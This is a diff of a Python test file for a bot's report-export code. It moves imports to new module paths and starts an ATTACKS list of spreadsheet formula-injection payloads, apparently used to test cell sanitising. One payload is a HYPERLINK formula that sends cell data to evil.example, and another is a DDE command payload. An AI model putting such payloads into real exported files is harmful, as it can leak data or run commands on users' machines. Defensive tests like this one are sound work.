@@ -15,10 +15,10 @@ from openpyxl import load_workbook
 from bot.cli.main import main
 from bot.db.engine import create_engine, create_sessionmaker
 from bot.db.models.staff import Staff
-from bot.services.progress import UnitProgress
-from bot.services.report_templates import templates
-from bot.services.report_xlsx import ExportSheet, build_export_xlsx
-from bot.services.safe_cells import FORMULA_LEADS, csv_row, safe_text
+from bot.services.reports.progress import UnitProgress
+from bot.services.reports.templates import templates
+from bot.services.reports.xlsx import ExportSheet, build_export_xlsx
+from bot.services.shared.safe_cells import FORMULA_LEADS, csv_row, safe_text
 from tests.conftest import ZHENGZHOU, at
 
 ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
